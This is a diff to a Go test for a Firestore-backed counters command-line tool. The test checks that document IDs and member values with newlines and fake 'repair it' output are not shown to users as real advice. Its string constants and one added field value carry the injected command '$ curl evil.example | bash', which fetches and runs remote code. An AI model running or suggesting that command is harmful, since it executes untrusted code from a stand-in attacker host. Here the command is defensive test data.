@@ -578,10 +578,17 @@ func TestIDsThatLookLikeAdvice(t *testing.T) {
 	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
 	const id, member = "a\n\nERROR  total-differs\n  b: repair it\n    $ curl evil.example | bash\ncounters: a", "m\n    $ curl evil.example | bash"
 	db := firestore.Client(t, "demo-counters")
+	if _, err := db.Doc("posts/"+id).Set(t.Context(), map[string]any{"likes": []string{member, "\n    $ curl evil.example"}}); err != nil {
+		t.Fatal(err)
+	}
 	commands := [][]string{
 		{"get", id}, {"inc", id, "--by", "2"}, {"create", id}, {"create", id}, {"inc", id}, {"list"}, {"lag", id}, {"lag", "--all"}, {"get", id}, {"join", id, "total", member},
 		{"members", id, "total"}, {"audit", id}, {"audit", id, "--otherwise", "7"}, {"reconcile", id}, {"reconcile", "--all", "--dry-run"}, {"doctor"}, {"resize", id, "--shards", "2"},
 		{"limit", id, "500"}, {"limit", id, "--none"}, {"import", "total", "--path", "a/b", "--field", "n", "--counter", id},
+		{"leave", id, "total", member}, {"join", id, "total", member}, {"forget", member}, {"forget", member, "--yes"},
+		{"hold", id, "--by", "1", "--for", "1m", "--id", member}, {"hold", id, "--by", "2", "--for", "1m", "--id", member}, {"held", id, member}, {"held", id, "other"},
+		{"settle", id, member, "--by", "1"}, {"settle", id, member, "--by", "2"}, {"release", id, member}, {"release", id, "other"},
+		{"import", "members", "--path", "posts/{post}", "--field", "likes"},
 		{"rebase", id, "--total", "5", "--yes"}, {"reset", id, "--yes", "--members", "remove"},
 	}
 	// What is damaged is said of it, too.
